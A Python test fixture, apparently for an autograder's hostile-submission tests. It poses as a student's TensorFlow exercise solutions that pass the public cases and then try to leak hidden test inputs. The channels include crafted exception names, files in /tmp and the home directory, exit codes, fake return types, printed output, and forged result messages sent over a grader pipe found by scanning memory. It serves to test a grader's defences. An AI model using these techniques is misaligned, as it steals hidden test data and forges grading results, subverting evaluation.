"""Round three (issue 22): a hidden case's inputs carried out through every channel a student's code controls.

Each function is right on its exercise's public cases, which a child runs first, then, on a hidden case, writes
what it holds (the inputs it is called on, and the ones it met before: SEEN) into one channel of the feedback,
each payload starting with LEAK:

- log1pexp: the name of an exception type it makes and raises, and the exception's message; then the payload
  written wherever it can write, for the next child to read while its cells run (parameter names, a load
  error's message, a printed line), and the process's exit code;
- straight_through_round: the shape of what it returns; then an object whose dtype's name, and whose type's
  name, is the payload;
- clip_gradient_norm: the value it returns, off by a number that is the payload (a largest difference, a count
  of elements that differ);
- td_loss: the result pipe itself: forged results whose error type, message, frames and note are the payload,
  and an event the grader does not know named by it; stdout and stderr;
- checkpointed: the name of the type of what it returns instead of a function (the probe's own message).

On a public case after a hidden one, each would say what it met (PUBLICSAW[...]): the public cases run first, so
what it says there is empty. tests/test_hostile.py checks that no output holds any hidden input, the seed or a key.
"""
import json
import os
import sys

import tensorflow as tf

PUBLIC = {"log1pexp": 3, "straight_through_round": 3, "clip_gradient_norm": 1, "td_loss": 1, "checkpointed": 1}
CALLS = {name: 0 for name in PUBLIC}
SEEN: list[str] = []
PLACES = ("/tmp", "/var/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"))

# What an earlier child of this submission left (it held a hidden case): said here, while the cells run.
for _place in PLACES:
    try:
        with open(os.path.join(_place, "leak.txt")) as _kept:
            _found = _kept.read()
    except OSError:
        continue
    print("LEAK:" + _found)
    exec(f"def td_loss(LEAK_{_found[:40]}, reward, next_q, gamma):\n    return q\n")  # noqa: S102
    raise ValueError("LEAK:" + _found)


def _payload(*tensors) -> str:
    """The inputs in hand, as the test looks for them: the hex of each one's first 24 bytes, its first value."""
    parts = []
    for tensor in tensors:
        array = tensor.numpy() if hasattr(tensor, "numpy") else None
        if array is not None and array.size:
            parts.append(f"{array.tobytes()[:24].hex()}/{float(array.flat[0])!r}")
    SEEN.extend(parts)
    return "_".join(SEEN)


_known: dict[str, set] = {}


def _public(name: str, tensor=None) -> bool:
    """Whether this call is on a public case: its input is one of the public cases' (the course's case builders
    are in the child, and public cases are the same for every seed); else by the count of calls."""
    CALLS[name] += 1
    if not _known:
        try:
            from autograder.course import all_assignments
            for assignment in all_assignments():
                for exercise in assignment.exercises:
                    _known[exercise.id] = {value.tobytes() for case in exercise.cases(0) if case.public
                                           for value in case.args.values() if hasattr(value, "tobytes")}
        except Exception:  # noqa: BLE001
            _known["none"] = set()
    if tensor is not None and name in _known:
        return tensor.numpy().tobytes() in _known[name]
    return CALLS[name] <= PUBLIC[name]


@tf.custom_gradient
def _softplus(x):
    def grad_fn(upstream):
        return upstream * tf.sigmoid(x)
    return tf.nn.softplus(x), grad_fn


def log1pexp(x):
    if _public("log1pexp", x):
        if SEEN:
            raise ValueError(f"PUBLICSAW[{'_'.join(SEEN)}]")
        return _softplus(x)
    data = _payload(x)
    if len(SEEN) == 1:  # the first hidden case this child meets
        raise type(f"LEAK_{data[:150]}_Error", (Exception,), {})("LEAK:" + data)
    for place in PLACES:
        try:
            with open(os.path.join(place, "leak.txt"), "w") as kept:
                kept.write(data)
        except OSError:
            pass
    os._exit(int(data[:2], 16) or 1)


class _Fake:
    """What straight_through_round returns on a hidden case: right numbers, a dtype and a type named by the payload."""

    def __init__(self, x, name):
        self.shape, self._x = x.shape, x
        self.dtype = type("dtype", (), {"name": name})()

    def numpy(self):
        return tf.round(self._x).numpy()


def straight_through_round(x):
    if _public("straight_through_round", x):
        return x + tf.stop_gradient(tf.round(x) - x)
    data = _payload(x)
    if CALLS["straight_through_round"] % 2:
        shape = [1 + int(c, 16) % 9 for c in data[:4]]
        return tf.zeros(shape, x.dtype)
    return type("LEAK_" + data[:150], (_Fake,), {})(x, "LEAK:" + data[:30])


def clip_gradient_norm(x, max_norm):
    @tf.custom_gradient
    def identity(t):
        def grad_fn(upstream):
            return tf.clip_by_norm(upstream, max_norm)
        return tf.identity(t), grad_fn
    if _public("clip_gradient_norm", x):
        return identity(x)
    data = _payload(x)
    number = float(int(data[:12], 16))  # the first bytes of the input, as the difference the feedback states
    count = tf.cast(tf.range(tf.size(x)) < int(data[:2], 16) % tf.size(x), x.dtype)
    return identity(x) + number * tf.reshape(count, tf.shape(x))


def _connection():
    import gc
    for obj in gc.get_objects():
        if type(obj).__name__ == "Connection" and hasattr(obj, "send_bytes"):
            return obj
    return None


def _number() -> int:
    frame = sys._getframe()
    while frame is not None:
        if "number" in frame.f_locals and isinstance(frame.f_locals["number"], int):
            return frame.f_locals["number"]
        frame = frame.f_back
    return 0


def td_loss(q, reward, next_q, gamma):
    target = tf.stop_gradient(reward + gamma * tf.reduce_max(next_q, axis=-1))
    if _public("td_loss", q):
        if SEEN:
            raise ValueError(f"PUBLICSAW[{'_'.join(SEEN)}]")
        return tf.reduce_mean(tf.square(q - target))
    data = _payload(q, next_q)
    print("LEAK:" + data)
    print("LEAK:" + data, file=sys.stderr)
    connection = _connection()
    if connection is not None:
        error = {"type": "LEAK_" + data[:150], "module": "LEAK", "message": "LEAK:" + data, "contract": False,
                 "frames": [{"file": "<cell LEAK_" + data[:40] + ">", "line": 1, "function": "LEAK", "code": data}]}
        outcome = {"status": "error", "outputs": None, "error": error, "message": "LEAK:" + data, "seconds": 0.0}
        connection.send_bytes(json.dumps({"event": "task-result", "task": _number(), "outcome": outcome}).encode())
        connection.send_bytes(json.dumps({"event": "LEAK:" + data}).encode())
    return tf.reduce_mean(tf.square(q - target)) + 1.0


def checkpointed(f):
    if _public("checkpointed"):
        return tf.recompute_grad(f)

    return type("LEAK_" + "_".join(SEEN)[:150], (), {})()
